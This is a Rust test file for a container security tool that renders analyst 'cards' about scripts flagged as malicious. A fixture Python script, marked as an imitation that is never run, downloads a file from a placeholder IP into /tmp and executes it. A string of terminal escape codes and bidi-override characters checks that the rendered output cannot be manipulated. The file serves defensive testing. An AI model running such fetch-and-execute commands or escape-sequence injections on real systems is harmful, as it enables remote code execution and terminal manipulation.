//! Cards as an analyst sees them.

use super::*;
use evidence::{
    Content, CoverageNote, Drift, Executable, Family, Interpreter, Label, Language, Layer, Namespaces, Pod,
    Redaction, Runtime, Sha256, Unseen,
};
use std::collections::BTreeMap;

const NOON: Timestamp = Timestamp(1_795_262_400_250_000_000);

/// An imitation: it names an address that does not exist, and is never run.
const PYTHON: &str = "import os\nimport urllib.request\n\n# A comment.\ndef main():\n\turl = 'http://203.0.113.7/tool'\n\
    \turllib.request.urlretrieve(url, '/tmp/tool')\n\tos.system('/tmp/tool --quiet')\n\n\nmain()\n";

pub(crate) fn finding(content: Content) -> Finding {
    let process = Process {
        pid: 4242,
        pid_in_container: 17,
        parent_pid: 4200,
        started_at: NOON,
        start_ticks: 123_456,
        uid: 1000,
        gid: 1000,
        comm: "python3".into(),
        cwd: "/srv/app".into(),
        executable: Executable {
            path: "/usr/bin/python3.11".into(),
            size: Some(6_831_704),
            sha256: Some(Sha256::of(b"an interpreter")),
        },
        args: vec!["python3".into(), "/tmp/stage.py".into(), "two words".into(), "--token=hunter2".into()],
        environment: Vec::new(),
        cgroup: "/kubepods.slice/cri-containerd-0123.scope".into(),
        namespaces: Namespaces::default(),
    };
    let container = Container {
        name: Some("app".to_owned()),
        image: Some("registry.example/shop/app:1.4".to_owned()),
        created_at: Some(NOON),
        pod: Some(Pod {
            namespace: Some("shop".to_owned()),
            name: Some("app-6f7c9d8b5-x2x4z".to_owned()),
            ..Pod::default()
        }),
        metadata: Metadata::Complete,
        ..Container::pending("0123456789abcdef".repeat(4), Some(Runtime::Containerd))
    };
    let script = Script {
        path: Some("/tmp/stage.py".into()),
        drift: Drift::WritableLayer,
        ..Script::new(ScriptKind::File, content)
    };
    let capture = Capture {
        observed_at: NOON,
        process,
        interpreter: Interpreter { family: Family::CPython },
        script,
        container: Some(container),
        coverage: BTreeSet::new(),
        compiled: None,
        held: false,
    };
    let reason = |indicator: &str, line, excerpt: &str, weight, technique| Reason {
        indicator: indicator.to_owned(),
        line,
        end_line: None,
        layer: None,
        excerpt: excerpt.to_owned(),
        weight,
        technique,
    };
    let verdict = Verdict {
        label: Label::Malicious,
        score: 0.997_31,
        threshold: 0.9,
        language: Language::Python,
        model: "test-model@0123456789ab".to_owned(),
        reasons: vec![
            reason("fetches a tool", Some(7), "urlretrieve", 3.25, Some(Technique::IngressToolTransfer)),
            reason("runs a file in /tmp", None, "os.system('/tmp/tool --quiet')", 1.5, None),
        ],
        layers: Vec::new(),
        unseen: Vec::new(),
    };
    Finding::new(capture, verdict, &Redaction::default()).expect("a malicious verdict on a text")
}

fn plain(finding: &Finding, executions: &[Execution], width: usize) -> String {
    anstream::adapter::strip_str(&card(finding, executions, &Place::default(), width)).to_string()
}

#[test]
fn a_card_shows_all_that_is_known() {
    let finding = finding(Content::Whole(PYTHON.into()));
    insta::assert_snapshot!(plain(&finding, &[finding.execution()], 100));
}

#[test]
fn a_card_says_what_is_missing() {
    let mut finding =
        finding(Content::HeadAndTail { head: PYTHON.into(), tail: "end\n".into(), omitted: 3_000_000 });
    finding.script_mut().unwrap().capture.container = Some(Container {
        metadata: Metadata::Missing("no runtime socket knows the container".to_owned()),
        ..Container::pending("demo", Some(Runtime::Runc))
    });
    finding.script_mut().unwrap().capture.coverage =
        BTreeSet::from([CoverageNote::HeadAndTail, CoverageNote::IdentityChanged]);
    finding.script_mut().unwrap().capture.process.args.clear();
    finding.script_mut().unwrap().capture.process.executable.sha256 = None;
    finding.script_mut().unwrap().verdict.reasons.clear();
    finding.script_mut().unwrap().verdict.unseen = vec![Unseen::Layers];
    finding.count = 3;
    finding.last_seen = Timestamp(NOON.0 + 2_000_000_000);
    let at =
        |seconds: u64| Execution { at: Timestamp(NOON.0 + seconds * 1_000_000_000), ..finding.execution() };
    insta::assert_snapshot!(plain(&finding, &[at(2), at(1), at(0)], 80));
}

#[test]
fn a_reason_in_a_layer_marks_no_line_of_the_script() {
    let mut finding = finding(Content::Whole(PYTHON.into()));
    finding.script_mut().unwrap().verdict.layers = vec![Layer {
        origin: "line 8: shell command".to_owned(),
        parent: None,
        language: Language::Shell,
        sha256: Sha256::of(b"/tmp/tool --quiet"),
        size: 17,
        score: 0.99,
    }];
    let reason = &mut finding.script_mut().unwrap().verdict.reasons[0];
    (reason.line, reason.layer) = (Some(1), Some(0));
    let card = plain(&finding, &[], 100);
    assert!(card.contains("fetches a tool, line 1 in a layer (line 8: shell command)"), "{card}");
    assert!(!card.contains(">      1 │"), "{card}");
}

const EVIL: &str = "\u{1b}[2J\u{1b}]0;x\u{7}\u{9b}1m\u{202e}evil\r\nMALICIOUS no\n";

#[test]
fn a_card_cannot_be_steered_by_what_it_shows() {
    let mut finding =
        finding(Content::Whole(format!("{EVIL}\n\t{}\n{EVIL}", "x".repeat(10_000)).into_bytes().into()));
    let capture = &mut finding.script_mut().unwrap().capture;
    capture.script.path = Some(format!("/tmp/{EVIL}").into_bytes().into());
    capture.script.drift = Drift::Volume(EVIL.into());
    capture.process.args = vec![EVIL.into(), Untrusted(vec![0xff; 5000]), "after".into()];
    capture.process.comm = EVIL.into();
    capture.process.cwd = EVIL.into();
    capture.process.cgroup = EVIL.into();
    capture.process.executable.path = EVIL.into();
    let container = capture.container.as_mut().expect("container");
    container.id = EVIL.to_owned();
    container.name = Some(EVIL.to_owned());
    container.image = Some(EVIL.repeat(100));
    container.labels = BTreeMap::from([(EVIL.to_owned(), EVIL.to_owned())]);
    container.metadata = Metadata::Missing(EVIL.to_owned());
    container.pod =
        Some(Pod { namespace: Some(EVIL.to_owned()), name: Some(EVIL.to_owned()), ..Pod::default() });
    capture.coverage = BTreeSet::from([CoverageNote::ContentNotCaptured(evidence::NotCaptured::Unreadable(
        EVIL.to_owned(),
    ))]);
    finding.script_mut().unwrap().verdict.reasons[0].line = Some(2);
    finding.script_mut().unwrap().verdict.reasons[1].excerpt = EVIL.to_owned();
    let text = plain(&finding, &[], 100);
    insta::assert_snapshot!(text);
    is_harmless(&text);
    is_harmless(&anstream::adapter::strip_str(&line(&finding)).to_string());
    assert!(!line(&finding).contains('\n'));
}

#[track_caller]
fn is_harmless(text: &str) {
    let harmful = text.chars().find(|character| {
        (character.is_control() && *character != '\n') || matches!(character, '\u{202a}'..='\u{202e}')
    });
    assert_eq!(harmful, None, "{text:?}");
}

proptest::proptest! {
    #[test]
    fn any_text_makes_a_card(head: Vec<u8>, tail: Vec<u8>, path: Vec<u8>, at: u32, width in 0..200_usize) {
        let mut finding = finding(Content::HeadAndTail { head: head.into(), tail: tail.into(), omitted: u64::MAX >> 1 });
        finding.script_mut().unwrap().capture.script.path = Some(path.into());
        finding.script_mut().unwrap().verdict.reasons[0].line = Some(at);
        is_harmless(&plain(&finding, &[], width));
    }
}
